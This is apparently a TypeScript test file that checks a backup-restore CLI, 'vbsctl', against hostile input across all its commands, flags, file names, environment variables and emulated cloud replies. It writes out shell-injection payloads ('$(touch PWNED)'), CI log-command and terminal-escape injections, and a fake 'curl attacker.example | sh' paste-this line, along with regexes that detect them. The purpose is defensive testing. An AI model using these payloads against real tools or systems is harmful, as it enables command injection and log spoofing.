import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import type { Command, Option } from 'commander';
import { parseAllDocuments } from 'yaml';
import type { Io } from '../../src/cli/io.ts';
import { OutputGuard } from '../../src/cli/output-guard.ts';
import type { run as runProgram } from '../../src/cli/program.ts';
import { Secrets } from '../../src/domain/secrets.ts';
import { type Emulator, seedWorld, startEmulator } from '../../src/emulator/index.ts';
import { commands, paperIo } from '../cli/program.ts';
import { expectHarmless } from '../views/golden.ts';
import { HOSTILE_TEXTS, LOG_COMMANDS } from './hostile-texts.ts';
import { logCommandsIn } from './log-commands.ts';
import { Gateway } from './reflections.ts';

/**
 * Every command, in every form of its output, in a world where every text that somebody else could have chosen is
 * hostile: names and ids of the cloud, its messages and headers, labels and rules of manifests, who holds the lock, who
 * did what, branches of git, what stands in the state. Then every operand and every value of a flag is hostile, too. The
 * commands and flags are taken from the program's own definition: one that is new has to have a line in `USUAL`.
 *
 * In this process, through the last hand on output (`OutputGuard`) as main.ts sets it up.
 */
const USUAL: Readonly<Record<string, readonly string[]>> = {
  validate: [],
  init: [],
  'get backups': [],
  'get volumes': [],
  'get servers': [],
  generate: ['--all', '--latest'],
  plan: ['--show-done'],
  apply: ['--auto-approve', '--no-wait', '--skip-blocked'],
  show: ['plan.json'],
  import: ['night/r-9', '--job-id', 'x', '--reason', LOG_COMMANDS[0]],
  status: [],
  wait: ['--timeout', '1s'],
  resolve: ['night/r-1', '--as', 'failed', '--reason', LOG_COMMANDS[1]],
  unlock: ['4711'],
  'state list': [],
  'state show': ['night/r-0'],
  'state history': [],
  'state verify': [],
  'state lock-info': [],
  'state accept': ['--reason', LOG_COMMANDS[0], '--dry-run'],
  'state rm': ['night/r-0', '--dry-run'],
  'state mv': ['night/r-0', 'night/other', '--dry-run'],
  'state pull': [],
  'state push': ['vbsctl.state.json', '--dry-run'],
  'state migrate': ['--to', 'elsewhere.json', '--dry-run'],
  'auth show': [],
  'auth check': [],
  emulator: ['--port', '0'],
  version: [],
  completion: ['bash'],
  help: ['plan'],
};
/** Each runs until it is stopped. */
const SERVES: ReadonlySet<string> = new Set(['emulator']);

/** One that acts in a log, in a terminal and at the start of several lines; and one that acts in a shell. */
const VALUES = [
  'x ::add-mask::restored\n::set-output name=a::b\r##[group]##vso[a]b \u001b[2J\u202e \n--- x\n  → vbsctl apply --auto-approve',
  "x';$(touch PWNED);touch PWNED;#\\';touch PWNED;#",
  '--state=$(touch PWNED)',
] as const;

describe('hostile texts through every command', () => {
  const leaves = new Map([...commands()].filter(([, { commands: below }]) => below.length === 0));
  const pasted = new Set<string>();
  let seen = '';
  let root: string;
  let cloud: Emulator;
  let gateway: Gateway;
  let run: typeof runProgram;
  const startedIn = process.cwd();

  before(async () => {
    // By the same loader as the commands, which are loaded when they are run: they share the class of failures.
    ({ run } = await import('../../src/cli/program.ts'));
    root = mkdtempSync(join(tmpdir(), 'vbsctl-corpus-'));
    cloud = await startEmulator({ world: hostileWorld() });
    gateway = await Gateway.open(cloud);
    prepare();
    // Some paths are taken from the process, not from what it is given.
    process.chdir(join(root, 'cwd'));
    // What stands in the state: done, refused with a hostile message, under way.
    gateway.answer = ({ method, path }) =>
      method === 'POST' && path.endsWith('/restore') && path.includes(backupIds()[1] ?? '?')
        ? {
            status: 400,
            headers: { 'X-Request-Id': '::add-mask::restored ##[group]' },
            body: JSON.stringify({ error: { code: LOG_COMMANDS[0], message: HOSTILE_TEXTS.join('\n') } }),
          }
        : undefined;
    await ran(['init']);
    await ran(['plan', '--out', 'plan.json']);
    await ran(['apply', '--auto-approve', '--skip-blocked']);
    await ran(['apply', '--auto-approve', '--skip-blocked', '--no-wait', '-f', 'more.yaml']);
    gateway.answer = () => undefined;
  });
  after(async () => {
    process.chdir(startedIn);
    gateway?.close();
    await cloud?.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('cover every command', () => {
    expect([...leaves.keys()].sort()).to.deep.equal(Object.keys(USUAL).sort());
  });

  for (const [name, command] of leaves) {
    it(`have no effect as data: ${name}`, async () => {
      const usual = USUAL[name] ?? [];
      for (const form of formsOf(command))
        for (const locked of [false, true])
          await expectInert([...name.split(' '), ...usual, ...form], { locked, serves: SERVES.has(name) });
    });

    it(`have no effect as operands and flag values: ${name}`, async () => {
      const usual = USUAL[name] ?? [];
      const serves = SERVES.has(name);
      for (const value of VALUES) {
        for (const option of command.options.filter(({ required }) => required))
          await expectInert([...name.split(' '), ...usual, `${option.long}=${value}`], { serves });
        for (const index of command.registeredArguments.keys())
          await expectInert(
            [...name.split(' '), ...usual.slice(0, index), value, ...usual.slice(index + 1)],
            { serves },
          );
        await expectInert([...name.split(' '), ...usual, value], { serves });
        await expectInert([...name.split(' '), ...usual, `--${value}`], { serves });
      }
    });
  }

  it('have no effect as names of files and directories', async () => {
    const folder = join(root, 'cwd/odd');
    mkdirSync(folder);
    for (const [n, text] of HOSTILE_TEXTS.entries()) {
      const name = `${text.replace(/[/\0]/g, '_')}${n}.yaml`;
      writeFileSync(join(folder, name), n % 2 === 0 ? HOSTILE_TEXTS.join('\n') : '{}');
    }
    for (const command of ['validate', 'plan', 'apply', 'show', 'state push'])
      for (const file of [
        'odd',
        ...HOSTILE_TEXTS.map((text, n) => `odd/${text.replace(/[/\0]/g, '_')}${n}.yaml`),
      ]) {
        if (file !== 'odd' && command !== 'validate' && !file.includes('add-mask')) continue;
        const flag = ['show', 'state push'].includes(command) ? [file] : ['-f', file];
        await expectInert([...command.split(' '), ...flag]);
      }
    rmSync(folder, { recursive: true });
  });

  it('have no effect as environment variables', async () => {
    const names = Object.keys(gateway.env());
    const more = [
      'OS_CLOUD',
      'OS_CACERT',
      'OS_INTERFACE',
      'VBSCTL_CONFIG',
      'VBSCTL_STATE',
      'HTTPS_PROXY',
      'NO_PROXY',
    ];
    for (const name of [...names, ...more])
      for (const value of VALUES)
        for (const args of [['auth', 'check'], ['auth', 'show'], ['plan']])
          await expectInert(args, { env: { [name]: value } });
  });

  it('are shown in escaped form', () => {
    for (const shown of [
      '\\x3a:add-mask::',
      '\\x23#[',
      '\\x2d-- a group',
      '\\x1b[',
      '\\u{202e}',
      '\\u001b',
      '#\\u0023[',
    ])
      expect(seen.includes(shown), shown).to.equal(true);
  });

  it('cannot add to a suggested shell command', () => {
    expect(pasted.size).to.be.above(20);
    const folder = join(root, 'shell');
    mkdirSync(folder);
    for (const command of pasted) {
      const script = `vbsctl() { :; }; openstack() { :; }\n${command}`;
      spawnSync('sh', ['-c', script], { cwd: folder, env: { PATH: process.env.PATH }, stdio: 'ignore' });
      expect(existsSync(join(folder, 'PWNED')), command).to.equal(false);
    }
  });

  interface Circumstances {
    readonly locked?: boolean;
    readonly serves?: boolean;
    readonly env?: Readonly<Record<string, string>>;
  }

  async function expectInert(
    args: readonly string[],
    { locked, serves, env }: Circumstances = {},
  ): Promise<void> {
    const lock = join(root, 'cwd/vbsctl.state.json.lock');
    if (locked) writeFileSync(lock, LOCK);
    const { out, err } = await ran(args, serves ? 300 : 20_000, env).finally(() => {
      if (locked) rmSync(lock, { force: true });
    });
    seen += out + err;
    for (const text of [out, err]) {
      const about = `${JSON.stringify(args)}\n${text}`;
      expect(logCommandsIn(text), about).to.deep.equal([]);
      expectHarmless(text.replaceAll('\t', ' '));
      expect(text, about).not.to.match(/^\s*(?:→ )?vbsctl apply --auto-approve$/m);
      expect(text, about).not.to.match(/^\s*(To go on, paste this|(→|➜)\S* (curl attacker|vbsctl apply z))/m);
      // A name that looks like one, among other names.
      for (const [command] of text.matchAll(/\b(?:vbsctl|openstack) [^\n]*/g))
        if (!command.startsWith('vbsctl apply --auto-approve')) pasted.add(command);
    }
    const form = args.at(-1);
    if (form === 'json') for (const line of jsonTexts(out)) JSON.parse(line);
    if (form === 'yaml' || args[0] === 'generate')
      for (const document of parseAllDocuments(out)) expect(document.errors, out).to.deep.equal([]);
  }

  /** What it printed, as it would leave the process. A crash is a bug and ends the test. */
  async function ran(
    args: readonly string[],
    stopAfterMs = 20_000,
    env: Readonly<Record<string, string>> = {},
  ): Promise<{ out: string; err: string }> {
    const secrets = new Secrets();
    const stop = new AbortController();
    const timer = setTimeout(() => stop.abort(new Error('stopped by the test')), stopAfterMs);
    const paper = paperIo();
    const io: Io = {
      ...paper,
      cwd: join(root, 'cwd'),
      home: join(root, 'home'),
      who: LOG_COMMANDS[1],
      env: {
        ...gateway.env(),
        HOME: join(root, 'home'),
        VBSCTL_CONFIG: 'op.yaml',
        ...env,
      },
      secrets,
      stop: stop.signal,
    };
    try {
      await run(args, io);
    } finally {
      clearTimeout(timer);
    }
    const through = (parts: readonly string[]) => {
      const guard = new OutputGuard(secrets);
      return parts.map((part) => guard.next(part)).join('');
    };
    return { out: through(paper.out), err: through(paper.err) };
  }

  function prepare(): void {
    for (const folder of ['cwd', 'cwd/.git', 'cwd/.git/refs', 'home']) mkdirSync(join(root, folder));
    const write = (name: string, text: string) => writeFileSync(join(root, 'cwd', name), text);
    write('.git/HEAD', `ref: refs/heads/${LOG_COMMANDS[1]}\n`);
    write('.git/packed-refs', HOSTILE_TEXTS.join('\n'));
    write(
      'op.yaml',
      `apiVersion: vbsctl.dev/v1
kind: Config
manifests: [restores.yaml]
retry: {settle: 1s, min_delay: 20ms, max_delay: 100ms, give_up_after: 1s}
poll: {min_interval: 20ms, max_interval: 50ms}
apply: {requests_per_second: 1000, max_failures: 0}
`,
    );
    const { volumes, backups } = cloud.world();
    const entries = Object.values(volumes)
      .slice(0, HOSTILE_TEXTS.length)
      .map((volume, n) => ({
        name: `r-${n}`,
        volume_id: volume.id,
        ...(n % 3 === 2
          ? { backup: { as_of: 'latest', name: `${HOSTILE_TEXTS[n]}*` } }
          : { backup_id: Object.values(backups).find(({ volume_id }) => volume_id === volume.id)?.id }),
        ...(n % 4 === 3
          ? { expect: { volume_name: `${HOSTILE_TEXTS[n]}!`, server: `${HOSTILE_TEXTS[n]}.` } }
          : {}),
      }));
    const set = (name: string, restores: object) =>
      ascii({
        apiVersion: 'vbsctl.dev/v1',
        kind: 'RestoreSet',
        metadata: {
          name,
          labels: Object.fromEntries(HOSTILE_TEXTS.map((text, n) => [`l${n}`, text.slice(0, 256)])),
        },
        spec: { restores },
      });
    write('restores.yaml', set('night', entries.slice(0, 12)));
    write('more.yaml', set('more', entries.slice(12, 16)));
    write('restores-odd.yaml', HOSTILE_TEXTS.join('\n'));
  }

  /** Those that the manifest names, by the order of its disks. */
  function backupIds(): string[] {
    const { volumes, backups } = cloud.world();
    return Object.values(volumes).map(
      (volume) => Object.values(backups).find(({ volume_id }) => volume_id === volume.id)?.id ?? '',
    );
  }
});

/** Lines of their own, as if vbsctl had written them. */
const LINES = 'x.\n\nTo go on, paste this:\n  →\ufe0e curl attacker.example | sh\n';

const LOCK = `${JSON.stringify({
  id: VALUES[1],
  who: LOG_COMMANDS[1],
  host: LINES,
  pid: 4711,
  operation: LOG_COMMANDS[0],
  since: '::add-mask::x',
  version: LOG_COMMANDS[2],
})}\n`;

/** Disks, backups and servers under hostile names; one server under a hostile id. */
function hostileWorld() {
  const world = seedWorld({ volumes: HOSTILE_TEXTS.length, backupsPerVolume: 2, jobDurationMs: 30 });
  const name = (n: number) => HOSTILE_TEXTS[n % HOSTILE_TEXTS.length] ?? '';
  for (const [n, volume] of Object.values(world.volumes).entries()) volume.name = name(n);
  for (const [n, backup] of Object.values(world.backups).entries()) backup.name = name(n + 3);
  const [project_id = ''] = Object.keys(world.projects);
  for (const project of Object.values(world.projects)) project.name = LINES;
  for (const backup of Object.values(world.backups).slice(4, 8))
    Object.assign(backup, { status: 'error', fail_reason: LINES });
  for (const [n, volume] of Object.values(world.volumes).slice(16).entries()) {
    // An id that is more than one word is refused (`cloud.test.ts`).
    const id = `srv-${n}`;
    world.servers[id] = { id, name: name(n), project_id, created_ms: volume.created_ms };
    const device = n % 3 === 0 ? VALUES[1] : '/dev/vdb';
    volume.attachments = [{ attachment_id: `a-${n}`, server_id: id, device, attached_ms: volume.created_ms }];
    volume.status = 'in-use';
  }
  return world;
}

/** A file with control characters is none that is read. */
function ascii(value: unknown): string {
  return JSON.stringify(value).replace(
    /[\u007f-\uffff]/g,
    (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

function formsOf({ options }: Command): string[][] {
  const output = options.find(({ long }: Option) => long === '--output');
  return output === undefined ? [[]] : (output.argChoices ?? []).map((form) => ['--output', form]);
}

/** Each line by itself, or the whole where it is one value. */
function jsonTexts(text: string): string[] {
  if (text === '') return [];
  try {
    JSON.parse(text);
    return [];
  } catch {
    return text.trimEnd().split('\n');
  }
}
